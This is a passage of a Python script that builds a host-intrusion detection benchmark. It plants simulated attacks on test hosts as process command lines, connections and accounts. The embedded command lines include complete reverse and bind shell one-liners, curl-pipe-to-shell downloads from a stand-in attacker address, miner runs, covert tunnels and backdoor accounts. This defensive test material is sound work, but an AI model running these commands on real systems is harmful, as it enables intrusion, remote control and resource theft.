"""Write the constructed part of the detection corpus: benchmarks/corpus/{attacks,benign}/*.json.

    python scripts/make_detection_corpus.py

Each attack is planted on a host of the benign package corpus, the way it shows in
`ps`, `ss -tnp` and /etc/passwd once it runs: the classic form first, then the
evasion variants real operators use and public write-ups teach (GTFOBins,
PayloadsAllTheThings' reverse-shell cheat sheet, Atomic Red Team tests, incident
reports on TeamTNT, Kinsing, 8220 and Outlaw). Benign scenarios are busy, innocent
hosts: a developer laptop, cron, package upgrades, an admin at work. The recorded CI
machine comes from benchmarks/corpus/record.py instead. The files are committed; this
script documents how they were made.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

OUT = Path(__file__).resolve().parent.parent / "benchmarks" / "corpus"
C2 = "203.0.113.7"  # attacker (TEST-NET-3)
POOL = "198.51.100.23"  # mining pool (TEST-NET-2)
PAYLOADS = "PayloadsAllTheThings, Methodology and Resources/Reverse Shell Cheatsheet.md"


def proc(pid: int, name: str, user: str, exe: str | None, cmd: str, ppid: int = 1,
         cpu: float = 0.0) -> dict[str, Any]:  # fmt: skip
    return {"pid": pid, "name": name, "user": user, "cpu_percent": cpu, "exe": exe,
            "cmdline": cmd, "ppid": ppid}  # fmt: skip


def conn(process: str, ip: str, port: int, local: int = 51234) -> dict[str, Any]:
    return {"protocol": "tcp", "local_port": local, "remote_address": ip, "remote_port": port,
            "process": process, "state": "ESTABLISHED"}  # fmt: skip


def listen(
    port: int, process: str, pid: int, address: str = "0.0.0.0", proto: str = "tcp"
) -> dict[str, Any]:
    return {"port": port, "protocol": proto, "process": process, "address": address, "pid": pid}


def user(name: str, uid: int, groups: list[str], shell: str = "/bin/bash") -> dict[str, Any]:
    return {"name": name, "uid": uid, "groups": groups, "shell": shell}


def key(user: str, fp: str, comment: str | None) -> dict[str, Any]:
    return {"user": user, "fingerprint": f"SHA256:{fp}", "comment": comment}


def attack(id: str, category: str, technique: str, variant: str, base: str, description: str,
           source: str, before: dict[str, Any] | None = None, **plant: Any) -> dict[str, Any]:  # fmt: skip
    sc: dict[str, Any] = {"id": id, "label": "attack", "category": category, "attack": technique,
                          "variant": variant, "description": description, "source": source,
                          "base": base}  # fmt: skip
    if before:
        sc["before"] = before
    sc["plant"] = plant
    return sc


def benign(id: str, category: str, base: str, description: str, source: str,
           before: dict[str, Any] | None = None, persist: int = 3, **plant: Any) -> dict[str, Any]:  # fmt: skip
    sc: dict[str, Any] = {"id": id, "label": "benign", "category": category,
                          "description": description, "source": source, "base": base,
                          "persist": persist}  # fmt: skip
    if before:
        sc["before"] = before
    sc["plant"] = plant
    return sc


PHP = 31000  # php-fpm worker pid on the web hosts' plants (a web shell's parent)
WEB = "ubuntu-web"

ATTACKS = [
    # --- reverse shells -----------------------------------------------------------------
    attack("reverse-shell-bash-devtcp", "reverse_shell", "T1059.004", "classic", WEB,
           "bash -i redirected to /dev/tcp, spawned by the web app's user",
           PAYLOADS + " (Bash TCP)",
           processes=[proc(31337, "bash", "www-data", "/usr/bin/bash", f"bash -c bash -i >& /dev/tcp/{C2}/4444 0>&1", 931),
                      proc(31338, "bash", "www-data", "/usr/bin/bash", "bash -i", 31337)],
           connections=[conn("bash", C2, 4444)]),
    attack("reverse-shell-nc-e", "reverse_shell", "T1059.004", "classic", WEB,
           "netcat with -e executing a shell", PAYLOADS + " (Netcat Traditional)",
           processes=[proc(31337, "nc", "www-data", "/usr/bin/nc.traditional", f"nc -e /bin/sh {C2} 4444", 931)],
           connections=[conn("nc", C2, 4444)]),
    attack("reverse-shell-mkfifo-nc", "reverse_shell", "T1059.004", "evasion", WEB,
           "OpenBSD netcat has no -e: a named pipe carries the shell instead",
           PAYLOADS + " (Netcat OpenBsd: rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc ... >/tmp/f)",
           processes=[proc(31337, "sh", "www-data", "/usr/bin/dash", f"sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {C2} 4444 >/tmp/f", 931),
                      proc(31338, "cat", "www-data", "/usr/bin/cat", "cat /tmp/f", 31337),
                      proc(31339, "sh", "www-data", "/usr/bin/dash", "/bin/sh -i", 31337),
                      proc(31340, "nc", "www-data", "/usr/bin/nc.openbsd", f"nc {C2} 4444", 31337)],
           connections=[conn("nc", C2, 4444)]),
    attack("reverse-shell-python-pty", "reverse_shell", "T1059.006", "evasion", WEB,
           "python3 -c: socket, dup2 and pty.spawn; no shell metacharacters on the command line",
           PAYLOADS + " (Python: import socket,os,pty ... pty.spawn)",
           processes=[proc(31337, "python3", "www-data", "/usr/bin/python3.12",
                           f"python3 -c import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"{C2}\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn(\"/bin/bash\")", 931),
                      proc(31338, "bash", "www-data", "/usr/bin/bash", "/bin/bash", 31337)],
           connections=[conn("python3", C2, 4444)]),
    attack("reverse-shell-perl-exec", "reverse_shell", "T1059.004", "evasion", WEB,
           "perl -e connects and execs /bin/sh -i: what remains is a plain sh holding the socket",
           PAYLOADS + " (Perl: use Socket; ... exec(\"/bin/sh -i\"))",
           processes=[proc(31337, "sh", "www-data", "/usr/bin/dash", "/bin/sh -i", 931)],
           connections=[conn("sh", C2, 4444)]),
    attack("reverse-shell-php-fsockopen", "reverse_shell", "T1059.004", "evasion", "vps-nextcloud",
           "php -r fsockopen with the shell on fd 3", PAYLOADS + " (PHP: php -r '$sock=fsockopen(...);exec(\"/bin/sh -i <&3 >&3 2>&3\");')",
           processes=[proc(31337, "php", "www-data", "/usr/bin/php8.3", f"php -r $sock=fsockopen(\"{C2}\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");", PHP),
                      proc(31338, "sh", "www-data", "/usr/bin/dash", "sh -c /bin/sh -i <&3 >&3 2>&3", 31337),
                      proc(31339, "sh", "www-data", "/usr/bin/dash", "/bin/sh -i", 31338)],
           connections=[conn("php", C2, 4444)]),
    attack("reverse-shell-ruby-rsocket", "reverse_shell", "T1059.004", "evasion", WEB,
           "ruby -rsocket opens the socket and execs a shell on its fd",
           PAYLOADS + " (Ruby: ruby -rsocket -e'f=TCPSocket.open(...).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)')",
           processes=[proc(31337, "sh", "www-data", "/usr/bin/dash", "sh -c /bin/sh -i <&5 >&5 2>&5", 931),
                      proc(31338, "sh", "www-data", "/usr/bin/dash", "/bin/sh -i", 31337)],
           connections=[conn("sh", C2, 4444)]),
    attack("reverse-shell-node-net", "reverse_shell", "T1059.007", "evasion", "dev-laptop",
           "node -e with net.Socket piped to a spawned /bin/sh", PAYLOADS + " (NodeJS: require('child_process').spawn('/bin/sh') + net.Socket)",
           processes=[proc(31337, "node", "ada", "/home/ada/.nvm/versions/node/v22.11.0/bin/node",
                           f"node -e (function(){{var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);var client=new net.Socket();client.connect(4444,\"{C2}\",function(){{client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);}});return /a/;}})();"),
                      proc(31338, "sh", "ada", "/usr/bin/dash", "/bin/sh", 31337)],
           connections=[conn("node", C2, 4444)]),
    attack("reverse-shell-gawk-inet", "reverse_shell", "T1059.004", "evasion", WEB,
           "gawk's /inet/tcp special file: no /dev/tcp, no nc", PAYLOADS + " (Awk: awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; ...}')",
           processes=[proc(31337, "gawk", "www-data", "/usr/bin/gawk",
                           f"awk BEGIN {{s = \"/inet/tcp/0/{C2}/4444\"; while(42) {{ do{{ printf \"shell>\" |& s; s |& getline c; if(c){{ while ((c |& getline) > 0) print $0 |& s; close(c); }} }} while(c != \"exit\") close(s); }}}}", 931)],
           connections=[conn("gawk", C2, 4444)]),
    attack("reverse-shell-lua-socket", "reverse_shell", "T1059", "evasion", "raspberry-pi-homeassistant",
           "lua with luasocket, the shell through os.execute", PAYLOADS + " (Lua: lua -e \"require('socket');...os.execute('/bin/sh -i <&3 >&3 2>&3');\")",
           processes=[proc(31337, "lua5.3", "root", "/usr/bin/lua5.3", f"lua -e require('socket');require('os');t=socket.tcp();t:connect('{C2}','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');"),
                      proc(31338, "sh", "root", "/usr/bin/dash", "sh -c /bin/sh -i <&3 >&3 2>&3", 31337)],
           connections=[conn("lua5.3", C2, 4444)]),
    attack("reverse-shell-socat-pty", "reverse_shell", "T1059.004", "evasion", WEB,
           "socat with a full pty (the 'upgrade to a real TTY' form)", "GTFOBins socat (Reverse shell): socat tcp-connect:$RHOST:$RPORT exec:sh,pty,stderr,setsid,sigint,sane",
           processes=[proc(31337, "socat", "www-data", "/usr/bin/socat", f"socat tcp-connect:{C2}:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane", 931),
                      proc(31338, "bash", "www-data", "/usr/bin/bash", "bash -li", 31337)],
           connections=[conn("socat", C2, 4444)]),
    attack("reverse-shell-busybox-nc", "reverse_shell", "T1059.004", "evasion", "raspberry-pi-homeassistant",
           "busybox's netcat applet: the process is named busybox, -e comes last", PAYLOADS + " (Netcat BusyBox: busybox nc 10.0.0.1 4242 -e sh)",
           processes=[proc(31337, "busybox", "root", "/usr/bin/busybox", f"busybox nc {C2} 4444 -e sh")],
           connections=[conn("busybox", C2, 4444)]),
    attack("reverse-shell-openssl-443", "reverse_shell", "T1573.002", "evasion", WEB,
           "openssl s_client to 443 through a fifo: encrypted, on the web port", PAYLOADS + " (OpenSSL: mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect ... > /tmp/s)",
           processes=[proc(31337, "sh", "www-data", "/usr/bin/dash", f"sh -c mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect {C2}:443 > /tmp/s; rm /tmp/s", 931),
                      proc(31338, "sh", "www-data", "/usr/bin/dash", "/bin/sh -i", 31337),
                      proc(31339, "openssl", "www-data", "/usr/bin/openssl", f"openssl s_client -quiet -connect {C2}:443", 31337)],
           connections=[conn("openssl", C2, 443)]),
    attack("reverse-shell-bash-exec-fd", "reverse_shell", "T1059.004", "evasion", WEB,
           "exec 5<>/dev/tcp: a read loop instead of bash -i", PAYLOADS + " (Bash: 0<&196;exec 196<>/dev/tcp/... and exec 5<>/dev/tcp/...)",
           processes=[proc(31337, "bash", "www-data", "/usr/bin/bash", f"bash -c exec 5<>/dev/tcp/{C2}/4444;cat <&5 | while read line; do $line 2>&5 >&5; done", 931),
                      proc(31338, "cat", "www-data", "/usr/bin/cat", "cat", 31337)],
           connections=[conn("bash", C2, 4444)]),
    attack("reverse-shell-ncat-ssl", "reverse_shell", "T1059.004", "evasion", "mail-server",
           "ncat with --ssl before -e, to 8443", PAYLOADS + " (Ncat: ncat --ssl 10.0.0.1 4242 -e /bin/bash)",
           processes=[proc(31337, "ncat", "root", "/usr/bin/ncat", f"ncat --ssl {C2} 8443 -e /bin/bash")],
           connections=[conn("ncat", C2, 8443)]),
    attack("reverse-shell-renamed-nc", "reverse_shell", "T1036.003", "evasion", "proxmox-node",
           "netcat copied to a system-looking name under /usr/local/sbin", "Atomic Red Team T1036.003 (rename system utilities) applied to nc",
           processes=[proc(31337, "systemd-helper", "root", "/usr/local/sbin/systemd-helper", f"systemd-helper {C2} 4444 -e /bin/bash")],
           connections=[conn("systemd-helper", C2, 4444)]),
    # --- bind shells --------------------------------------------------------------------
    attack("bind-shell-bash-owner", "bind_shell", "T1059.004", "classic", WEB,
           "a shell owns a listening socket on every address", "PayloadsAllTheThings, Bind Shell Cheatsheet",
           processes=[proc(31337, "bash", "www-data", "/usr/bin/bash", "bash", 931)],
           listening_ports=[listen(31337, "bash", 31337)]),
    attack("bind-shell-ncat-listen", "bind_shell", "T1059.004", "evasion", WEB,
           "ncat -lvnp with -e after the flags", "PayloadsAllTheThings, Bind Shell Cheatsheet (ncat -nlvp 51337 -e /bin/bash)",
           processes=[proc(31337, "ncat", "www-data", "/usr/bin/ncat", "ncat -nlvp 51337 -e /bin/bash", 931)],
           listening_ports=[listen(51337, "ncat", 31337)]),
    attack("bind-shell-socat-fork", "bind_shell", "T1059.004", "evasion", "nas",
           "socat TCP-LISTEN,fork EXEC:/bin/bash in upper case", "GTFOBins socat (Bind shell): socat TCP-LISTEN:$LPORT,reuseaddr,fork EXEC:/bin/sh,pty,stderr,setsid,sigint,sane",
           processes=[proc(31337, "socat", "root", "/usr/bin/socat", "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash,pty,stderr,setsid,sigint,sane")],
           listening_ports=[listen(4444, "socat", 31337)]),
    attack("bind-shell-python", "bind_shell", "T1059.006", "evasion", "docker-host",
           "python3 -c binds, accepts and pty.spawn()s", "PayloadsAllTheThings, Bind Shell Cheatsheet (Python)",
           processes=[proc(31337, "python3", "root", "/usr/bin/python3.11", "python3 -c import socket as s,subprocess as sp;s1=s.socket(s.AF_INET,s.SOCK_STREAM);s1.setsockopt(s.SOL_SOCKET,s.SO_REUSEADDR, 1);s1.bind((\"0.0.0.0\",51337));s1.listen(1);c,a=s1.accept();\nwhile True: d=c.recv(1024).decode();p=sp.Popen(d,shell=True,stdout=sp.PIPE,stderr=sp.PIPE,stdin=sp.PIPE);c.sendall(p.stdout.read()+p.stderr.read())")],
           listening_ports=[listen(51337, "python3", 31337)]),
    # --- web shells and shell upgrades --------------------------------------------------
    attack("web-shell-php-fpm-child", "web_shell", "T1505.003", "classic", "vps-nextcloud",
           "php-fpm spawns sh -c with reconnaissance commands (a web shell at work)", "Atomic Red Team T1505.003; the usual first commands of a web shell",
           processes=[proc(31337, "sh", "www-data", "/usr/bin/dash", "sh -c id;uname -a;cat /etc/passwd", PHP),
                      proc(31338, "cat", "www-data", "/usr/bin/cat", "cat /etc/passwd", 31337)]),
    attack("web-shell-gunicorn-child", "web_shell", "T1505.003", "evasion", WEB,
           "the Python app server spawns a shell that downloads a stage", "SSTI/RCE exploitation write-ups: os.popen('curl ...|sh') from a template",
           processes=[proc(31337, "sh", "www-data", "/usr/bin/dash", f"/bin/sh -c curl -fsSL http://{C2}:8080/s.sh|sh", 931),
                      proc(31338, "curl", "www-data", "/usr/bin/curl", f"curl -fsSL http://{C2}:8080/s.sh", 31337)],
           connections=[conn("curl", C2, 8080)]),
    attack("shell-upgrade-python-pty", "shell_upgrade", "T1059.006", "classic", WEB,
           "python3 -c 'import pty;pty.spawn(\"/bin/bash\")' inside a reverse shell", "GTFOBins python (Shell); every OSCP write-up's TTY upgrade",
           processes=[proc(31337, "python3", "www-data", "/usr/bin/python3.12", "python3 -c import pty;pty.spawn(\"/bin/bash\")", 931),
                      proc(31338, "bash", "www-data", "/usr/bin/bash", "/bin/bash", 31337)]),
    attack("shell-upgrade-script", "shell_upgrade", "T1059.004", "evasion", WEB,
           "script -qc /bin/bash /dev/null: the same upgrade without python", "GTFOBins script (Shell): script -q /dev/null",
           processes=[proc(31337, "script", "www-data", "/usr/bin/script", "script -qc /bin/bash /dev/null", 931),
                      proc(31338, "bash", "www-data", "/usr/bin/bash", "/bin/bash", 31337)]),
    # --- miners -------------------------------------------------------------------------
    attack("miner-xmrig-stratum", "crypto_miner", "T1496", "classic", "docker-host",
           "xmrig with its pool on the command line", "xmrig documentation: xmrig -o stratum+tcp://pool:3333 -u WALLET",
           processes=[proc(31337, "xmrig", "root", "/tmp/xmrig-6.21.0/xmrig", "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ -k --donate-level 1", cpu=385.0)],
           connections=[conn("xmrig", POOL, 3333)]),
    attack("miner-sysupdate-config", "crypto_miner", "T1496", "evasion", WEB,
           "8220 gang's sysupdate: a renamed xmrig in /etc, the pool in config.json next to it, no arguments", "8220 Gang reports (sysupdate + config.json in /etc, 2021-2023)",
           processes=[proc(31337, "sysupdate", "root", "/etc/sysupdate", "/etc/sysupdate", cpu=192.0)],
           connections=[conn("sysupdate", POOL, 45700)]),
    attack("miner-php-fpm-dotdir", "crypto_miner", "T1496", "evasion", "vps-nextcloud",
           "a miner named php-fpm in a dot-dir under /var/tmp, fed -c config.json", "Kinsing/TeamTNT reports: renamed xmrig with -c config.json, --background",
           processes=[proc(31337, "php-fpm", "www-data", "/var/tmp/.ICE-unix/.x/php-fpm", "php-fpm -c /var/tmp/.ICE-unix/.x/config.json --background", PHP, cpu=198.0)],
           connections=[conn("php-fpm", POOL, 5555)]),
    attack("miner-kswapd0-configrc", "crypto_miner", "T1496", "evasion", "ubuntu-web",
           "Outlaw's kswapd0: a miner named like the kernel's swap daemon, in ~/.configrc", "Outlaw botnet reports (~/.configrc/a/kswapd0)",
           processes=[proc(31337, "kswapd0", "deploy", "/home/deploy/.configrc/a/kswapd0", "./kswapd0", 1226, cpu=99.5)],
           connections=[conn("kswapd0", POOL, 7777)]),
    attack("miner-stratum-ssl-node", "crypto_miner", "T1496", "evasion", "dev-laptop",
           "a miner copied as node, stratum+ssl:// instead of stratum+tcp://", "MoneroOcean setup script (stratum+ssl, port 20128/10128)",
           processes=[proc(31337, "node", "ada", "/home/ada/.local/bin/node", "node --donate-level 0 -o stratum+ssl://gulf.moneroocean.stream:20128 -u 44AFFq5kSiGBoZ -p x", cpu=340.0)],
           connections=[conn("node", POOL, 20128)]),
    attack("miner-dbus-shm-14444", "crypto_miner", "T1496", "evasion", "nas",
           "a miner named dbus-daemon-launch in /dev/shm, pool on 14444, no arguments", "TeamTNT reports (/dev/shm payloads; pool ports 14444/14433)",
           processes=[proc(31337, "dbus-daemon-lau", "root", "/dev/shm/.dbus/dbus-daemon-launch", "dbus-daemon-launch", cpu=190.0)],
           connections=[conn("dbus-daemon-lau", POOL, 14444)]),
    # --- offensive tools and enumeration ------------------------------------------------
    attack("offensive-nmap", "offensive_tool", "T1046", "classic", WEB,
           "nmap SYN scan of the LAN", "nmap reference guide",
           processes=[proc(31337, "nmap", "root", "/usr/bin/nmap", "nmap -sS -p- -T4 192.168.1.0/24", 1226)]),
    attack("offensive-hydra", "offensive_tool", "T1110.001", "classic", "mail-server",
           "hydra against SSH", "hydra README",
           processes=[proc(31337, "hydra", "root", "/usr/bin/hydra", "hydra -l root -P rockyou.txt ssh://192.168.1.30")]),
    attack("offensive-fscan-renamed", "offensive_tool", "T1046", "evasion", "proxmox-node",
           "fscan (an all-in-one internal scanner) dropped as 'update'", "fscan README; incident reports of fscan dropped under innocent names",
           processes=[proc(31337, "update", "root", "/root/.cache/update", "./update -h 10.10.10.0/24 -nopoc -np")]),
    attack("offensive-masscan-renamed", "offensive_tool", "T1046", "evasion", "docker-host",
           "masscan renamed to a kernel-ish name, scanning for Docker APIs", "TeamTNT reports (masscan/pnscan for 2375)",
           processes=[proc(31337, "kworker", "root", "/usr/bin/kworker", "kworker -p2375 172.16.0.0/12 --rate 10000")]),
    attack("offensive-medusa", "offensive_tool", "T1110.001", "evasion", "vps-nextcloud",
           "medusa brute force (not hydra)", "medusa man page",
           processes=[proc(31337, "medusa", "noah", "/usr/bin/medusa", "medusa -h 10.8.0.5 -u admin -P pass.txt -M ssh")]),
    attack("privesc-linpeas-curl-sh", "privesc_enumeration", "T1082", "classic", WEB,
           "linpeas piped from the internet into sh", "PEASS-ng README: curl -L .../linpeas.sh | sh",
           processes=[proc(31337, "curl", "www-data", "/usr/bin/curl", "curl -L https://github.com/peass-ng/PEASS-ng/releases/latest/download/linpeas.sh", 931),
                      proc(31338, "sh", "www-data", "/usr/bin/dash", "sh", 931),
                      proc(31339, "find", "www-data", "/usr/bin/find", "find / -perm -4000 -type f", 31338)],
           connections=[conn("curl", "140.82.121.4", 443)]),
    attack("privesc-pspy-renamed", "privesc_enumeration", "T1057", "evasion", WEB,
           "pspy (process snooping for cron jobs) as .cache in /dev/shm", "pspy README; HTB write-ups",
           processes=[proc(31337, ".cache", "www-data", "/dev/shm/.cache", "/dev/shm/.cache -pf -i 1000", 931)]),
    attack("privesc-suid-find", "privesc_enumeration", "T1548.001", "evasion", WEB,
           "SUID and capabilities hunting by hand", "GTFOBins (SUID); PayloadsAllTheThings Linux Privilege Escalation",
           processes=[proc(31337, "find", "www-data", "/usr/bin/find", "find / -perm -u=s -type f 2>/dev/null", 931),
                      proc(31338, "getcap", "www-data", "/usr/sbin/getcap", "getcap -r /", 931)]),
    # --- tunnels ------------------------------------------------------------------------
    attack("tunnel-ngrok", "tunnel", "T1572", "classic", "dev-laptop",
           "ngrok exposing SSH", "ngrok docs",
           processes=[proc(31337, "ngrok", "ada", "/snap/ngrok/180/ngrok", "ngrok tcp 22")],
           connections=[conn("ngrok", "3.125.102.39", 443)]),
    attack("tunnel-chisel", "tunnel", "T1572", "classic", WEB,
           "chisel reverse SOCKS", "chisel README (client R:socks)",
           processes=[proc(31337, "chisel", "www-data", "/var/www/chisel", f"chisel client {C2}:8000 R:socks", 931)],
           connections=[conn("chisel", C2, 8000)]),
    attack("tunnel-chisel-renamed", "tunnel", "T1572", "evasion", WEB,
           "chisel renamed sshd-agent under /usr/local/bin, to 443", "incident reports of renamed chisel (e.g. CISA AA23-319A)",
           processes=[proc(31337, "sshd-agent", "root", "/usr/local/bin/sshd-agent", f"sshd-agent client {C2}:443 R:socks")],
           connections=[conn("sshd-agent", C2, 443)]),
    attack("tunnel-ssh-reverse", "tunnel", "T1572", "evasion", "nas",
           "ssh -fN -R: a reverse port forward with the system's own ssh", "GTFOBins ssh; Atomic Red Team T1572",
           processes=[proc(31337, "ssh", "root", "/usr/bin/ssh", f"ssh -fN -o StrictHostKeyChecking=no -R 2222:localhost:22 tunnel@{C2}")],
           connections=[conn("ssh", C2, 22)]),
    attack("tunnel-cloudflared", "tunnel", "T1572", "evasion", "ubuntu-web",
           "cloudflared quick tunnel publishing SSH", "Cloudflare docs; reports of cloudflared abuse (2023-2024)",
           processes=[proc(31337, "cloudflared", "root", "/usr/local/bin/cloudflared", "cloudflared tunnel --url ssh://localhost:22")],
           connections=[conn("cloudflared", "198.41.192.7", 7844)]),
    attack("tunnel-frpc-config", "tunnel", "T1572", "evasion", "proxmox-node",
           "frpc renamed update, its server in an ini file", "frp README (frpc -c frpc.toml); reports of renamed frpc",
           processes=[proc(31337, "update", "root", "/opt/.cache/update", "/opt/.cache/update -c /opt/.cache/conf.ini")],
           connections=[conn("update", C2, 7000)]),
    attack("tunnel-ligolo-agent", "tunnel", "T1572", "evasion", "docker-host",
           "ligolo-ng's agent binary is simply called agent", "ligolo-ng README (./agent -connect host:11601 -ignore-cert)",
           processes=[proc(31337, "agent", "root", "/root/agent", f"./agent -connect {C2}:11601 -ignore-cert")],
           connections=[conn("agent", C2, 11601)]),
    # --- masquerade ---------------------------------------------------------------------
    attack("masquerade-kthread-brackets", "masquerade", "T1036.004", "classic", WEB,
           "a binary named [kworker/0:2] (brackets in its name)", "Atomic Red Team T1036.004",
           processes=[proc(31337, "[kworker/0:2]", "root", "/usr/lib/[kworker/0:2]", "[kworker/0:2]")]),
    attack("masquerade-prctl-kworker", "masquerade", "T1036.004", "evasion", "docker-host",
           "prctl(PR_SET_NAME) to kworker/1:1, run from a hidden dir, child of init", "XorDDoS/Kinsing reports (process renamed at runtime)",
           processes=[proc(31337, "kworker/1:1", "root", "/usr/lib/x86_64-linux-gnu/.cache/kw", "kworker/1:1")]),
    attack("masquerade-second-logind", "masquerade", "T1036.005", "evasion", "ubuntu-web",
           "a second systemd-logind from /usr/libexec (the real one is /usr/lib/systemd)", "Atomic Red Team T1036.005 (match legitimate name or location)",
           processes=[proc(31337, "systemd-logind", "root", "/usr/libexec/systemd-logind", "/usr/libexec/systemd-logind")],
           connections=[conn("systemd-logind", C2, 8443)]),
    attack("masquerade-sshd-name", "masquerade", "T1036.005", "evasion", "mail-server",
           "process named sshd, its binary is /usr/bin/.sshd", "rootkit/backdoor reports (hidden files next to real binaries)",
           processes=[proc(31337, "sshd", "root", "/usr/bin/.sshd", "sshd: root@notty")],
           connections=[conn("sshd", C2, 443)]),
    # --- deleted binaries ---------------------------------------------------------------
    attack("deleted-binary-tmp", "deleted_binary", "T1070.004", "classic", WEB,
           "a root process from a deleted /tmp binary", "Atomic Red Team T1070.004",
           processes=[proc(31337, "x", "root", "/tmp/x (deleted)", "/tmp/x")]),
    attack("deleted-binary-memfd", "deleted_binary", "T1620", "evasion", "docker-host",
           "fileless: executed from memfd_create, named like a kernel thread", "memfd_create fileless loaders (e.g. reports on TeamTNT's ezuri)",
           processes=[proc(31337, "kthreadd", "root", "/memfd:  (deleted)", "[kthreadd]")]),
    # --- suspicious paths ---------------------------------------------------------------
    attack("path-tmp-root", "suspicious_path", "T1036.005", "classic", WEB,
           "root runs /tmp/.x/agent", "common dropper behaviour",
           processes=[proc(31337, "agent", "root", "/tmp/.x/agent", "/tmp/.x/agent")]),
    attack("path-dev-shm", "suspicious_path", "T1036.005", "classic", "proxmox-node",
           "a binary in /dev/shm", "common dropper behaviour (noexec-free tmpfs)",
           processes=[proc(31337, "sh", "root", "/dev/shm/sh", "/dev/shm/sh")]),
    attack("path-dot-dir-var-lib", "suspicious_path", "T1564.001", "evasion", "nas",
           "a hidden directory under /var/lib, a system-daemon name", "Atomic Red Team T1564.001 (hidden files and directories)",
           processes=[proc(31337, "systemd-netwrk", "root", "/var/lib/.systemd/systemd-netwrk", "/var/lib/.systemd/systemd-netwrk")],
           connections=[conn("systemd-netwrk", C2, 443)]),
    attack("path-home-dot-local-user", "suspicious_path", "T1564.001", "evasion", "vps-nextcloud",
           "a non-root implant in ~/.local/share/.k", "hidden user-level implants (e.g. reports on Linux Rekoobe)",
           processes=[proc(31337, "kdevd", "noah", "/home/noah/.local/share/.k/kdevd", "kdevd")],
           connections=[conn("kdevd", C2, 8443)]),
    attack("path-dev-mqueue", "suspicious_path", "T1036.005", "evasion", "mail-server",
           "a binary run from /dev/mqueue (writable tmpfs no one looks at)", "post-exploitation guides: writable dirs beyond /tmp (/dev/mqueue, /run/lock)",
           processes=[proc(31337, "ld", "root", "/dev/mqueue/ld", "/dev/mqueue/ld -d")]),
    attack("path-run-lock", "suspicious_path", "T1036.005", "evasion", "raspberry-pi-homeassistant",
           "a binary run from /run/lock", "post-exploitation guides: world-writable /run/lock",
           processes=[proc(31337, "apt-check", "root", "/run/lock/apt-check", "apt-check")]),
    # --- exposed services ---------------------------------------------------------------
    attack("exposed-postgres", "exposed_service", "T1190", "classic", "dev-laptop",
           "postgres listening on every address", "Shodan-style exposure",
           processes=[], listening_ports=[listen(5432, "postgres", 31337)]),
    attack("exposed-docker-api", "exposed_service", "T1610", "classic", "docker-host",
           "the Docker API on tcp/2375", "TeamTNT/Kinsing initial access",
           listening_ports=[listen(2375, "dockerd", 31337)]),
    attack("exposed-redis-alt-port", "exposed_service", "T1190", "evasion", "mail-server",
           "redis on 0.0.0.0:6380 (a second instance, non-default port)", "redis exposure incidents (P2PInfect, 2023)",
           processes=[proc(31337, "redis-server", "redis", "/usr/bin/redis-server", "/usr/bin/redis-server *:6380")],
           listening_ports=[listen(6380, "redis-server", 31337)]),
    attack("exposed-mysql-ipv6", "exposed_service", "T1190", "evasion", "vps-nextcloud",
           "mariadb bound to :: (every IPv6 and mapped IPv4 address)", "bind-address = :: in my.cnf",
           listening_ports=[listen(3306, "mariadbd", 31337, "::")]),
    attack("exposed-jupyter", "exposed_service", "T1190", "evasion", "dev-laptop",
           "jupyter lab on 0.0.0.0 without a token", "cryptojacking of exposed Jupyter (Qubitstrike, 2023)",
           processes=[proc(31337, "jupyter-lab", "ada", "/home/ada/.venv/bin/python3", "/home/ada/.venv/bin/python3 /home/ada/.venv/bin/jupyter-lab --ip=0.0.0.0 --ServerApp.token=")],
           listening_ports=[listen(8888, "jupyter-lab", 31337)]),
    # --- keys and accounts --------------------------------------------------------------
    attack("key-root-added", "ssh_key_persistence", "T1098.004", "classic", WEB,
           "a key added to root's authorized_keys", "Atomic Red Team T1098.004",
           ssh_authorized_keys=[key("root", "k1Ztq3hP0mB6yQbYvX5wRj2sLc8nEa4uTf7dGi9oKpM", "root@kali")]),
    attack("key-system-account-shell", "ssh_key_persistence", "T1098.004", "evasion", WEB,
           "a key for www-data plus a login shell for it", "post-exploitation persistence via a service account",
           users=[user("www-data", 33, ["www-data"])],
           ssh_authorized_keys=[key("www-data", "w3Bq9zLx2kP7mN4vC8rT1yH6jD0sF5gA3eU9iO2lKqZ", None)]),
    attack("key-no-comment-deploy", "ssh_key_persistence", "T1098.004", "evasion", WEB,
           "a second key for the deploy user with no comment", "persistence that blends into a normal account",
           ssh_authorized_keys=[key("deploy", "d9Lk2Qw8Er4Ty6Ui0Op3As5Df7Gh1Jk2Lz4Xc6Vb8N", None)]),
    attack("account-uid0-toor", "account_manipulation", "T1136.001", "classic", WEB,
           "a second uid 0 account", "Atomic Red Team T1136.001 (useradd -o -u 0)",
           users=[user("toor", 0, ["root"])]),
    attack("account-new-sudoer", "account_manipulation", "T1098", "classic", "nas",
           "a new account in sudo", "Atomic Red Team T1098",
           users=[user("support", 1001, ["support", "sudo"])]),
    attack("account-system-nologin-to-shell", "account_manipulation", "T1098", "evasion", "ubuntu-web",
           "the daemon account goes from nologin to /bin/bash", "persistence via a system account (usermod -s /bin/bash daemon)",
           users=[user("daemon", 1, ["daemon"])]),
    attack("account-root-group", "account_manipulation", "T1098", "evasion", "mail-server",
           "an ordinary account put in group root (gid 0)", "usermod -aG root (root-owned group-writable files)",
           users=[user("admin", 1000, ["admin", "sudo", "root"])]),
    attack("account-docker-group", "account_manipulation", "T1098", "evasion", "docker-host",
           "a new account in the docker group (root-equivalent)", "GTFOBins docker; docker group = root",
